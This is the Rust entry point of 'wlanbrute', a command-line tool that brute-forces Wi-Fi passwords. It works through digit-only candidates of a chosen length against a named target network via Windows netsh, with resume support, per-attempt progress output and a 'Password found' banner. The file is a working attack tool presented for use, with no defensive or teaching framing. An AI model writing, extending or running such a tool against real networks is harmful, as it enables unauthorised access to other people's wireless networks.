/*!
 * wlanbrute entry point
 *
 * Wires the interrupt flag, prints session banners, and runs the trial
 * loop against the live netsh adapter.
 */

use clap::Parser;
use colored::*;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::Duration;

use wlanbrute::cli::Args;
use wlanbrute::{
    format_elapsed, run_trial, search_space, AttemptOptions, Candidates, Netsh, TrialOutcome,
    DIGITS,
};

fn main() {
    let args = Args::parse();
    args.validate();

    let running = Arc::new(AtomicBool::new(true));
    let r = running.clone();
    ctrlc::set_handler(move || {
        r.store(false, Ordering::SeqCst);
    })
    .ok();

    println!("{} Target network: {}", "[*]".blue(), args.target);
    println!(
        "{} Search space: {} candidates of length {}",
        "[*]".blue(),
        search_space(DIGITS, args.length),
        args.length
    );
    if let Some(start) = &args.start_value {
        println!("{} Resuming from {}", "[*]".blue(), start);
    }

    let candidates = match &args.start_value {
        Some(start) => Candidates::starting_at(DIGITS, args.length, start),
        None => Candidates::new(DIGITS, args.length),
    };

    let mut options = AttemptOptions::new(&args.target, args.profile_path.clone());
    options.timeout_secs = args.timeout;
    options.settle = Duration::from_secs(args.settle);

    let report = run_trial(&Netsh, candidates, &options, &running, |progress| {
        println!(
            "{} Tried {}  ({} failed, {:.2}s, total {})",
            "[-]".red(),
            progress.candidate,
            progress.attempts,
            progress.attempt_time.as_secs_f64(),
            format_elapsed(progress.total_time)
        );
    });

    match &report.outcome {
        TrialOutcome::Success(password) => {
            let bar = "#".repeat(72).green();
            println!("{}", bar);
            println!("{} Password found: {}", "[+]".green().bold(), password);
            println!("{}", bar);
        }
        TrialOutcome::Exhausted => {
            println!(
                "{} Search space exhausted, no candidate matched",
                "[!]".yellow()
            );
        }
        TrialOutcome::Cancelled => {
            println!("\n{} Interrupted, stopping", "[!]".yellow());
        }
    }

    println!("\nSession statistics:");
    println!("   Total attempts: {}", report.attempts);
    println!("   Time elapsed: {:.2}s", report.elapsed.as_secs_f64());
}
